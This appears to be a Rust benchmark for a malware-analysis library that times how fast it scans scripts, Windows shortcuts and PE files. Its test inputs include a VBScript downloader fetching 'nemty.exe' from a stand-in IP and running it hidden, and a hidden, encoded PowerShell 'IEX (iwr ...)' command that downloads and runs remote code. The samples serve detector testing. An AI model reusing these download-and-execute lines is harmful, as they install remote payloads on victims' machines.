//! Throughput of `analyse_script` on a 1 MB script (a downloader body padded
//! with ordinary code and comments, plus an encoded command), of
//! `analyse_lnk` on a PowerShell shortcut and of `analyse_pe` on a small PE.
//!
//! `cargo bench -p mozu-script` measures for several rounds; without
//! `--bench` (as under `cargo test --all-targets`) one quick pass checks it
//! runs.

#[path = "../tests/common/mod.rs"]
mod common;

use std::hint::black_box;
use std::time::Instant;

use common::{LnkSpec, build_lnk, build_pe, encode_command};
use mozu_script::{analyse_lnk, analyse_pe, analyse_script};

const BODY: &str = "Set xHttp = CreateObject(\"Microsoft.XMLHTTP\")\r\n\
xHttp.Open \"GET\", \"http://198.51.100.23/nemty.exe\", False\r\n\
Set objShell = CreateObject(\"Wscr\" & \"ipt.Shell\")\r\n\
objShell.Run \"C:\\Users\\Public\\a.exe\", 0, False\r\n";

const FILLER: &str = "' 請求書の処理: update the totals for each row before printing\r\n\
For i = 1 To UBound(rows): total = total + CLng(rows(i)) * rate: Next\r\n\
If total > limit Then MsgBox \"Total exceeds the limit: \" & total, vbExclamation, \"Check\"\r\n";

fn script_of(bytes: usize) -> Vec<u8> {
    let mut text = String::from(BODY);
    text.push_str(&format!(
        "cmd = \"powershell -w hidden -enc {}\"\r\n",
        encode_command("IEX (iwr http://198.51.100.7/a)")
    ));
    while text.len() < bytes {
        text.push_str(FILLER);
    }
    text.into_bytes()
}

fn measure<F: FnMut(&[u8]) -> usize>(label: &str, input: &[u8], repeats: usize, rounds: usize, mut run: F) {
    let mut best = f64::INFINITY;
    let mut findings = 0;
    for _ in 0..rounds {
        let started = Instant::now();
        for _ in 0..repeats {
            findings = run(black_box(input));
        }
        best = best.min(started.elapsed().as_secs_f64());
    }
    let mb = (input.len() * repeats) as f64 / 1e6;
    println!(
        "{label}: {} bytes x {repeats}, best of {rounds}: {:.1} MB/s, {:.0} files/s ({findings} findings each)",
        input.len(),
        mb / best,
        repeats as f64 / best
    );
}

fn main() {
    let full = std::env::args().any(|arg| arg == "--bench");
    let rounds = if full { 7 } else { 1 };
    let script = script_of(1_000_000);
    // Compiles the pattern tables outside the measurement.
    let _ = analyse_script(b"warm up", "vbs");
    measure(
        "analyse_script (1 MB vbs)",
        &script,
        if full { 10 } else { 1 },
        rounds,
        |input| analyse_script(input, "vbs").findings.len(),
    );
    let lnk = build_lnk(&LnkSpec {
        id_list: true,
        link_info: true,
        environment_block: true,
        unicode: true,
        arguments: format!("-w hidden -enc {}", encode_command("IEX (iwr http://198.51.100.7/a)")),
        working_dir: "%SystemRoot%\\System32".to_string(),
    });
    measure("analyse_lnk", &lnk, if full { 20_000 } else { 10 }, rounds, |input| {
        analyse_lnk(input).findings.len()
    });
    let pe = build_pe(true, 0x6000_0000, 0x22);
    measure("analyse_pe", &pe, if full { 100_000 } else { 10 }, rounds, |input| {
        analyse_pe(input).findings.len()
    });
}
